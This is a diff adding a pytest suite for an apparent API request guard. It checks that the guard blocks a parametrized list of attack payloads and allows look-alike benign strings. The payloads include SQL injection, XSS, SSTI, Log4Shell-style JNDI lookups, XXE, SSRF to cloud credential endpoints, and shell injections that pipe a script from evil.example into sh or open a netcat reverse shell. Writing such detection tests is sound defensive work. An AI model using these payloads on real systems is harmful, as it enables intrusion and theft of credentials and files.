@@ -1,0 +1,150 @@
+"""Each attack class is blocked where it arrives, and what looks like it but is not stays allowed."""
+
+from __future__ import annotations
+
+from urllib.parse import quote, urlencode
+
+import pytest
+
+from apisentry.guard import Guard, HttpRequest
+from apisentry.guard.config import GuardConfig
+from tests.guard.conftest import get, post_json
+
+ATTACKS = [
+    ("sqli", "1' OR '1'='1' --"),
+    ("sqli", "1 UNION SELECT username, password FROM users"),
+    ("sqli", "1; WAITFOR DELAY '0:0:5'--"),
+    ("sqli", "1 AND SLEEP(5)"),
+    ("sqli", "admin'#"),
+    ("xss", "<script>alert(document.cookie)</script>"),
+    ("xss", "<img src=x onerror=alert(1)>"),
+    ("xss", "javascript:alert(1)"),
+    ("xss", "<svg/onload=confirm(1)>"),
+    ("cmdi", "; cat /etc/passwd"),
+    ("cmdi", "$(curl http://evil.example/x.sh | sh)"),
+    ("cmdi", "| nc -e /bin/sh 10.0.0.1 4444"),
+    ("cmdi", "`id`; uname -a"),
+    ("traversal", "../../../../etc/passwd"),
+    ("traversal", "..\\..\\windows\\win.ini"),
+    ("traversal", "file:///etc/shadow"),
+    ("ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+    ("ssrf", "http://metadata.google.internal/computeMetadata/v1/"),
+    ("ssrf", "http://[fd00:ec2::254]/latest/"),
+    ("ssrf", "http://2130706433/admin"),
+    ("ssrf", "http://0177.0.0.1/"),
+    ("ssrf", "http://0x7f.0.0.1:8080/"),
+    ("ssrf", "http://[::ffff:127.0.0.1]/"),
+    ("ssrf", "http://localhost:6379/"),
+    ("ssti", "{{7*7}}"),
+    ("ssti", "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}"),
+    ("ssti", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
+    ("jndi", "${jndi:ldap://evil.example/a}"),
+    ("jndi", "${${lower:j}${lower:n}di:ldap://evil.example/a}"),
+    ("jndi", "${${::-j}ndi:rmi://evil.example/a}"),
+    ("ldapi", "*)(uid=*))(|(uid=*"),
+    ("ldapi", "admin)(&(password=*)"),
+    ("nosqli", '{"$where": "sleep(5000)"}'),
+    ("nosqli", "'; return true; var x='"),
+    ("xxe", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
+    ("crlf", "en\r\nSet-Cookie: admin=1"),
+]
+
+
+@pytest.mark.parametrize(("detector", "payload"), ATTACKS)
+def test_attack_in_query_is_blocked(guard: Guard, detector: str, payload: str) -> None:
+    v = guard.inspect(get(query=urlencode({"q": payload})))
+    assert v.action == "block", v
+    assert any(d.detector == detector and d.location == "query.q" for d in v.detections), v.detections
+
+
+@pytest.mark.parametrize(("detector", "payload"), ATTACKS)
+def test_attack_in_json_leaf_is_blocked_with_its_path(guard: Guard, detector: str, payload: str) -> None:
+    v = guard.inspect(post_json({"order": {"items": [{"sku": "A-1"}, {"sku": "B-2"}, {"name": payload}]}}))
+    assert v.action == "block"
+    assert any(d.detector == detector and d.location == "body$.order.items[2].name" for d in v.detections), v.detections
+
+
+def test_locations_are_named(guard: Guard) -> None:
+    attack = "' OR 1=1 --"
+    cases = {
+        "path[3]": HttpRequest("GET", "/api/items/" + quote(attack, safe="")),
+        "header.User-Agent": get(headers=[("User-Agent", attack)]),
+        "cookie.session": get(headers=[("Cookie", "theme=dark; session=" + quote(attack))]),
+        "form.comment": HttpRequest("POST", "/c", "", [("Content-Type", "application/x-www-form-urlencoded")],
+                                    urlencode({"user": "ana", "comment": attack}).encode()),
+        "multipart.bio": HttpRequest("POST", "/c", "", [("Content-Type", "multipart/form-data; boundary=XyZ")],
+                                     b"--XyZ\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n" + attack.encode()
+                                     + b"\r\n--XyZ--\r\n"),
+        "xml/order/note": HttpRequest("POST", "/c", "", [("Content-Type", "application/xml")],
+                                      b"<order><note>" + attack.replace("'", "&apos;").encode() + b"</note></order>"),
+        "body$[\"weird key\"]": post_json({"weird key": attack}),
+    }
+    for where, req in cases.items():
+        v = guard.inspect(req)
+        assert v.action == "block", where
+        assert where in {d.location for d in v.detections}, (where, v.detections)
+
+
+def test_operator_and_prototype_keys(guard: Guard) -> None:
+    v = guard.inspect(post_json({"user": "admin", "password": {"$ne": None}}))
+    assert any(d.detector == "nosqli" and d.location == 'body$.password["$ne"]' for d in v.detections)
+    assert v.action == "block"
+    v = guard.inspect(get(query="user[$ne]=x&pass[$regex]=.*"))
+    assert v.action == "block" and {d.detector for d in v.detections} == {"nosqli"}
+    v = guard.inspect(post_json({"__proto__": {"isAdmin": True}}))
+    assert v.action == "block" and any(d.detector == "proto" for d in v.detections)
+    v = guard.inspect(post_json({"constructor": {"prototype": {"isAdmin": True}}}))
+    assert v.action == "block" and any(d.detector == "proto" for d in v.detections)
+    v = guard.inspect(get(query="a[__proto__][polluted]=1"))
+    assert v.action == "block"
+
+
+BENIGN = [
+    "O'Brien", "select a plan", "Temperature <= 25 and humidity >= 40", "<p>Thanks for your order!</p>",
+    "ana.lopez+news@example.org", "https://example.com/docs?page=2&sort=asc", "10.5", "3.14",
+    "Rock & roll; jazz; blues -- all genres welcome", "1/2 cup sugar; bake at 180°C", "price>10 AND price<100",
+    "C:\\Users\\ana\\Documents\\report.docx", "Use `npm install --save` then run tests", "LS", "id", "cat",
+    "Meeting notes: select a venue, update the budget, and drop the old agenda.",
+    "Hello {{first_name}}, your order {{order_id}} has shipped.", "50% off (today only)!", "I'd like a refund :(",
+    "00000000-0000-4000-8000-000000000000", "2024-05-01T13:40:00Z", "SGVsbG8gd29ybGQ=", "ZXhwcmVzcw",
+    "Dear team,\nthe Q3 report is attached.\nRegards, Ana", "if (x > 0) { return x * 2; }", "/home/ana/README.md",
+]
+
+
+@pytest.mark.parametrize("text", BENIGN)
+def test_benign_text_is_allowed(guard: Guard, text: str) -> None:
+    assert guard.inspect(get(query=urlencode({"q": text}))).action == "allow"
+    assert guard.inspect(post_json({"note": text})).action == "allow"
+
+
+def test_private_ip_in_a_field_is_data_but_in_a_url_is_ssrf(guard: Guard) -> None:
+    assert guard.inspect(post_json({"ip": "10.0.0.5"})).action == "allow"
+    assert guard.inspect(post_json({"webhook": "http://10.0.0.5/hook"})).action == "block"
+    assert guard.inspect(post_json({"webhook": "https://hooks.example.com/x"})).action == "allow"
+
+
+def test_graphql_limits() -> None:
+    g = Guard(GuardConfig(graphql_introspection=False, graphql_max_depth=5, graphql_max_aliases=3))
+    ok = post_json({"query": "query { user(id: 1) { name orders { id } } }"}, path="/graphql")
+    assert g.inspect(ok).action == "allow"
+    intro = post_json({"query": "{ __schema { types { name } } }"}, path="/graphql")
+    assert any("introspection" in d.message for d in g.inspect(intro).detections)
+    deep = post_json({"query": "{ a { b { c { d { e { f { g } } } } } } }"}, path="/graphql")
+    assert g.inspect(deep).action == "block"
+    aliases = post_json({"query": "{ " + " ".join(f"a{i}: user(id: {i}) {{ name }}" for i in range(10)) + " }"}, path="/graphql")
+    v = g.inspect(aliases)
+    assert v.action == "block" and any("aliases" in d.message for d in v.detections)
+    batch = post_json([{"query": "{ me { id } }"}] * 20, path="/graphql")
+    assert g.inspect(batch).action == "block"
+
+
+def test_monitor_mode_reports_but_allows() -> None:
+    g = Guard(GuardConfig(mode="monitor"))
+    v = g.inspect(get(query="q=%3Cscript%3Ealert(1)%3C/script%3E"))
+    assert v.action == "allow" and v.would_block and v.score >= 5
+
+
+def test_a_weak_signal_alone_does_not_block(guard: Guard) -> None:
+    v = guard.inspect(get(query=urlencode({"q": "it's"})))
+    assert v.action == "allow"
+    assert v.score < 5
